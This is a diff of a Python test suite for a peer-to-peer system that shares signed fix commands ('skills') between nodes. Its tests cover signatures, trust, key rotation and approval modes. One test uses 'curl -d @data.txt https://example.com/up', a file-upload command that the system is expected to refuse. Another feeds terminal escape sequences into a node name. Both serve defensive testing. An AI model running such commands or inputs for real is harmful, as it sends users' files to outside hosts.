@@ -107,8 +107,8 @@ def test_a_skill_without_or_with_a_bad_signature_is_counted_and_not_known(mesh: 
     for bad in (replace(good, key="", sig=""), replace(good, sig="0" * 128)):
         mesh.publish(bad)
     pull(a)
-    assert a.store.skill(known.skill_id) is None
-    assert a.store.figures()["records.rejected"] == 1  # the same text: one record
+    assert a.store.skills.find(known.skill_id) is None
+    assert a.store.snapshots.figures()["records.rejected"] == 1  # the same text: one record
     assert Fix(a, mesh.clock).fail().match is None
 
 
@@ -120,7 +120,7 @@ def test_the_pattern_of_one_skill_with_the_fix_of_another_is_refused(mesh: Small
     assert mixed != record.text
     mesh.publish(replace(record, text=mixed))
     assert pull(a).rejected == 1
-    assert a.store.skill(one.skill_id) is None and a.store.skill(two.skill_id) is None
+    assert a.store.skills.find(one.skill_id) is None and a.store.skills.find(two.skill_id) is None
 
 
 def test_what_the_output_of_a_fix_says_is_never_published_or_approved(mesh: SmallMesh) -> None:
@@ -133,8 +133,8 @@ def test_what_the_output_of_a_fix_says_is_never_published_or_approved(mesh: Smal
     if considered.match is not None:
         fix.heal(considered)
     publish(a)
-    assert {known.skill_id} == {skill.skill_id for skill in a.store.skills()}
-    assert a.store.controls("") == {}
+    assert {known.skill_id} == {skill.skill_id for skill in a.store.skills.all()}
+    assert a.store.controls.under("") == {}
 
 
 # --- enrolled ---------------------------------------------------------------------------------------------------------
@@ -161,9 +161,9 @@ def test_another_operators_skill_runs_only_once_their_mode_was_set_to_auto(mesh:
     a, s, known = trusted(mesh)
     stand_behind(a, again(a, known), "looked at")
     assert decision(Fix(a, mesh.clock).fail()) == "approve"
-    a.store.set_control(f"mode:author:{s.identity.operator}", "auto", "me", "mesh.mode")
+    a.store.controls.request(f"mode:author:{s.identity.operator}", "auto", "me", "mesh.mode")
     assert decision(Fix(a, mesh.clock).fail()) == "run"
-    a.store.set_control(f"mode:author:{s.identity.operator}", "hint", "me", "mesh.mode")
+    a.store.controls.request(f"mode:author:{s.identity.operator}", "hint", "me", "mesh.mode")
     assert decision(Fix(a, mesh.clock).fail()) == "hint"
 
 
@@ -173,7 +173,7 @@ def test_policy_itself_offers_an_enrolled_authors_fix_and_still_none_of_a_strang
     fix.healer.policy = Policy.load(None)
     assert decision(fix.fail()) == "approve"
     withdraw(a, key_of(s), "", "me")
-    a.store.set_rule(f"revoked:{key_of(s)}", "", "me")
+    a.store.controls.set(f"revoked:{key_of(s)}", "", "me")
     assert decision(fix.fail()) == "hint"
 
 
@@ -182,7 +182,7 @@ def test_what_is_refused_from_a_peer_is_refused_from_an_enrolled_one_too(mesh: S
     taught(s, fix="curl -d @data.txt https://example.com/up")
     mesh.meet()
     enrol(a, key_of(s), "me")
-    a.store.set_control(f"mode:author:{s.identity.operator}", "auto", "me", "mesh.mode")
+    a.store.controls.request(f"mode:author:{s.identity.operator}", "auto", "me", "mesh.mode")
     assert decision(Fix(a, mesh.clock).fail()) == "refuse"
 
 
@@ -353,7 +353,7 @@ def test_the_highest_number_and_time_of_an_author_are_remembered(mesh: SmallMesh
     mesh.clock.advance(-60)
     send_as(mesh, b, 400, body(known, label=2))
     pull(a)
-    author = a.store.author(key_of(b))
+    author = a.store.authors.get(key_of(b))
     assert author is not None
     assert (author.highest_seq, author.newest) == (500, "2026-11-22T08:00:00.000000Z")
 
@@ -388,11 +388,11 @@ def test_a_rotated_key_is_the_same_node_with_a_counter_of_its_own(mesh: SmallMes
     send_as(mesh, b, 2**63 - 1, body(known))  # whoever had the key drove its counter to the end
     pull(a)
     old, new = rotate(b)
-    assert (old, new) == (a.store.authors()[0].node, key_of(b)) and old != new
+    assert (old, new) == (a.store.authors.all()[0].node, key_of(b)) and old != new
     other = taught(b, "ModuleNotFoundError: No module named 'flask'", "pip install flask")
     mesh.meet()
     assert trust_in(a, new).state == "own"
-    author = a.store.author(new)
+    author = a.store.authors.get(new)
     assert author is not None and (author.name, author.host) == ("b", "host1") and author.highest_seq < 10
     assert again(a, other).own_operator is True
     assert again(a, known).own_operator is True
@@ -416,8 +416,8 @@ def test_a_replaced_key_signs_nothing_more(mesh: SmallMesh) -> None:
     record = sign("skill", body(known), 2**62, stolen, b.clock)
     mesh.publish(record)
     pull(a)
-    assert a.store.skill(known.skill_id) is None
-    assert "replaced" in a.store.rejected_records()[0][2]
+    assert a.store.skills.find(known.skill_id) is None
+    assert "replaced" in a.store.records.rejected()[0][2]
 
 
 def test_an_enrolled_node_stays_enrolled_under_its_new_key(mesh: SmallMesh) -> None:
@@ -463,17 +463,17 @@ def test_a_key_is_replaced_once(mesh: SmallMesh) -> None:
     stolen = b.identity
     _, new = rotate(b)
     pull(a)
-    b.store.set_meta("node_key", "")
+    b.store.meta.set("node_key", "")
     b._identity = stolen
     b.home.key.write_text(stolen.node.seed.hex())
     rotate(b)
     pull(a)
-    row = a.store.author(stolen.node.public)
+    row = a.store.authors.get(stolen.node.public)
     assert row is not None and row.successor == new
-    assert a.store.count_records()["rejected"] == 1
+    assert a.store.records.count()["rejected"] == 1
 
 
-@pytest.mark.parametrize("step", ["set_meta", "replace"])
+@pytest.mark.parametrize("step", ["set", "replace"])
 def test_a_rotation_that_was_interrupted_is_done_or_not_and_loses_nothing(
     mesh: SmallMesh, monkeypatch: pytest.MonkeyPatch, step: str
 ) -> None:
@@ -484,19 +484,19 @@ def test_a_rotation_that_was_interrupted_is_done_or_not_and_loses_nothing(
         raise KeyboardInterrupt
 
     with monkeypatch.context() as patched, pytest.raises(KeyboardInterrupt):
-        patched.setattr(b.store if step == "set_meta" else Path, step, crash)
+        patched.setattr(b.store.meta if step == "set" else Path, step, crash)
         rotate(b)
     b.close()
     mesh.nodes.remove(b)
     b = mesh.node("b")
-    assert (key_of(b) == old) is (step == "set_meta")
+    assert (key_of(b) == old) is (step == "set")
     known = taught(b)
     mesh.meet()
     assert again(a, known).own_operator is True
-    if step == "set_meta":
+    if step == "set":
         rotate(b)
     mesh.meet()
-    row = a.store.author(old)
+    row = a.store.authors.get(old)
     assert row is not None and row.successor == key_of(b) != old
     assert again(a, known).own_operator is True
     assert not b.home.next_key.exists()
@@ -513,7 +513,7 @@ def changed(mesh: SmallMesh) -> tuple[Node, Node]:
     mesh.nodes.remove(s)
     s.home.key.unlink()
     fresh = Node(s.settings, mesh.clock, mesh.bridge.peer())
-    fresh.store.set_meta("joined", "")
+    fresh.store.meta.set("joined", "")
     fresh.require_bridge()
     mesh.nodes.append(fresh)
     return a, fresh
@@ -521,7 +521,7 @@ def changed(mesh: SmallMesh) -> tuple[Node, Node]:
 
 def test_a_known_name_with_another_key_is_a_hard_stop_until_a_person_enrols_it(mesh: SmallMesh) -> None:
     a, fresh = changed(mesh)
-    a.store.set_control(f"mode:author:{fresh.identity.operator}", "auto", "me", "mesh.mode")
+    a.store.controls.request(f"mode:author:{fresh.identity.operator}", "auto", "me", "mesh.mode")
     known = taught(fresh, "ModuleNotFoundError: No module named 'x'", "pip install x")
     mesh.send(fresh, "skill", body(known, **named(fresh)))
     pull(a)
@@ -530,7 +530,7 @@ def test_a_known_name_with_another_key_is_a_hard_stop_until_a_person_enrols_it(m
     considered = fix.fail("ModuleNotFoundError: No module named 'x'")
     assert decision(considered) == "refuse"
     assert "another key than before" in reasons(considered)
-    assert "author.state" in [event.kind for event in a.store.events_after(0)]
+    assert "author.state" in [event.kind for event in a.store.events.after(0)]
     enrol(a, key_of(fresh), "me")
     assert decision(fix.fail("ModuleNotFoundError: No module named 'x'")) == "run"
 
@@ -553,7 +553,7 @@ def test_a_stranger_that_calls_itself_as_an_own_node_is_stopped(mesh: SmallMesh)
         mesh.send(s, "skill", body(known, name=name, host="host1"))
         pull(a)
         assert trust_in(a, key_of(s)).state == "changed"
-        a.store.mark_changed(key_of(s), False)
+        a.store.authors.mark_changed(key_of(s), False)
     assert trust_in(a, key_of(b)).state == "own"
 
 
@@ -569,7 +569,7 @@ def test_a_name_that_would_steer_a_terminal_is_made_visible(mesh: SmallMesh) -> 
     a, s = mesh.node("a"), mesh.node("s", operator="other")
     mesh.send(s, "skill", body(taught(s), name="x\x1b]0;y\x07\n", host="\u202eh"))
     pull(a)
-    row = a.store.author(key_of(s))
+    row = a.store.authors.get(key_of(s))
     assert row is not None and row.name.startswith("x") and (row.name + row.host).isprintable()
 
 
@@ -606,7 +606,7 @@ def test_always_lets_exactly_this_run_in_this_project_only(mesh: SmallMesh) -> N
     fix = Fix(a, mesh.clock, "approve")
     considered = fix.fail()
     assert considered.match is not None
-    a.store.set_rule(always_key(known.skill_id, action_hash(considered.match.action), "/work"), "me", "me")
+    a.store.controls.set(always_key(known.skill_id, action_hash(considered.match.action), "/work"), "me", "me")
     assert decision(fix.fail()) == "run"
     assert decision(fix.fail(cwd="/elsewhere")) == "approve"
     taught(a, "ModuleNotFoundError: No module named 'x'", "pip install x")
@@ -621,14 +621,14 @@ def test_always_stays_below_modes_halt_quarantine_and_refusals(mesh: SmallMesh, 
     fix = Fix(a, mesh.clock, "approve")
     considered = fix.fail()
     assert considered.match is not None
-    a.store.set_rule(always_key(known.skill_id, action_hash(considered.match.action), "/work"), "me", "me")
+    a.store.controls.set(always_key(known.skill_id, action_hash(considered.match.action), "/work"), "me", "me")
     assert decision(fix.fail()) == "run"
     if brake == "mode":
-        a.store.set_control("mode:via:shell", "approve", "me", "mesh.mode")
+        a.store.controls.request("mode:via:shell", "approve", "me", "mesh.mode")
     elif brake == "halt":
         (a.settings.operator / "HALT").touch()
     elif brake == "quarantine":
-        a.store.set_skill_state(known.skill_id, "quarantined", "me")
+        a.store.skills.set_state(known.skill_id, "quarantined", "me")
     elif brake == "refused":
         fix.policy.decision = "refuse"
     else:
@@ -639,7 +639,7 @@ def test_always_stays_below_modes_halt_quarantine_and_refusals(mesh: SmallMesh, 
 def test_what_was_rejected_for_a_project_is_not_offered_there_again(mesh: SmallMesh) -> None:
     a = mesh.node("a")
     known = taught(a)
-    a.store.set_rule(not_here_key(known.skill_id, "/work"), "me", "me")
+    a.store.controls.set(not_here_key(known.skill_id, "/work"), "me", "me")
     fix = Fix(a, mesh.clock)
     assert fix.fail().match is None
     assert decision(fix.fail(cwd="/elsewhere")) == "run"
@@ -649,7 +649,7 @@ def test_a_folder_whose_name_is_not_utf8_can_be_named_in_a_rule(mesh: SmallMesh)
     a = mesh.node("a")
     known = taught(a)
     folder = os.fsdecode(b"/caf\xe9")
-    a.store.set_rule(not_here_key(known.skill_id, folder), "me", "me")
+    a.store.controls.set(not_here_key(known.skill_id, folder), "me", "me")
     assert Fix(a, mesh.clock).fail(cwd=folder).match is None
 
 
@@ -665,9 +665,9 @@ def test_the_operators_command_is_started_once_for_each_new_approval(mesh: Small
     assert told.read_text().strip() == approval.approval_id
     node.settings = replace(node.settings, on_approval=("/no/such/program",))
     assert fix.healer.ask(considered) == approval
-    assert [event for event in node.store.events_after(0) if event.kind == "fault"] == []
+    assert [event for event in node.store.events.after(0) if event.kind == "fault"] == []
     fix.healer.ask(fix.fail())
-    [fault] = [event for event in node.store.events_after(0) if event.kind == "fault"]
+    [fault] = [event for event in node.store.events.after(0) if event.kind == "fault"]
     assert "/no/such/program cannot be started" in str(fault.data["what"])
 
 
@@ -680,7 +680,7 @@ def test_each_kind_of_a_fix_of_several_steps_is_held_by_its_own_mode(mesh: Small
     ruling = Ruling("run", (), "make_folder+make_file")
     asked = Question(considered.incident, known, considered.match, "auto")
     assert judged(a, asked, ruling).decision == "run"
-    a.store.set_rule("mode:action:make_file", "hint", "me")
+    a.store.controls.set("mode:action:make_file", "hint", "me")
     assert judged(a, asked, ruling).decision == "hint"
 
 
@@ -692,7 +692,7 @@ def test_a_node_that_was_away_hears_of_a_revocation_before_its_first_fix(mesh: S
     mesh.meet()
     for node in (a, away):
         enrol(node, key_of(s), "me")
-        node.store.set_rule(f"mode:author:{s.identity.operator}", "auto", "me")
+        node.store.controls.set(f"mode:author:{s.identity.operator}", "auto", "me")
     assert decision(Fix(away, mesh.clock).fail()) == "run"
     for number in range(150):
         mesh.send(s, "skill", body(known, context=str(number)))
